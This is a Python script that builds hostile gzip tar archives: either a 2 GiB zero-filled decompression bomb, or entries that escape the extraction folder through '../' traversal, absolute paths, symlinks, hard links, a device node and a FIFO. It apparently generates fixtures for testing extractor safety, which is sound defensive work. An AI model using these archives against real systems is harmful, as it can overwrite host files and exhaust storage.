# Writes a hostile tar archive. Arguments: kind, file to write, folder of the host that it should reach.
import gzip, io, sys, tarfile

kind, target, folder = sys.argv[1:]


class Zeros(io.RawIOBase):
  left = 2 * 1024 ** 3

  def readable(self): return True

  def read(self, size=-1):
    size = min(self.left, 1 << 20 if size < 0 else size)
    self.left -= size
    return bytes(size)


def entry(name, kind=tarfile.REGTYPE, link='', size=0):
  made = tarfile.TarInfo(name)
  made.type, made.linkname, made.size, made.mode = kind, link, size, 0o644
  return made


with tarfile.open(fileobj=gzip.open(target, 'wb', 6), mode='w') as archive:
  text = b'planted'
  def file(name): archive.addfile(entry(name, size=len(text)), io.BytesIO(text))
  file('x/ordinary')
  if kind == 'bomb': archive.addfile(entry('x/zeros', size=Zeros.left), Zeros())
  else:
    file('x/' + '../' * 16 + folder.strip('/') + '/planted-1')
    file(folder + '/planted-2')
    archive.addfile(entry('x/link', tarfile.SYMTYPE, folder))
    file('x/link/planted-3')
    archive.addfile(entry('x/hard', tarfile.LNKTYPE, folder + '/file'))
    archive.addfile(entry('x/device', tarfile.BLKTYPE))
    archive.addfile(entry('x/pipe', tarfile.FIFOTYPE))
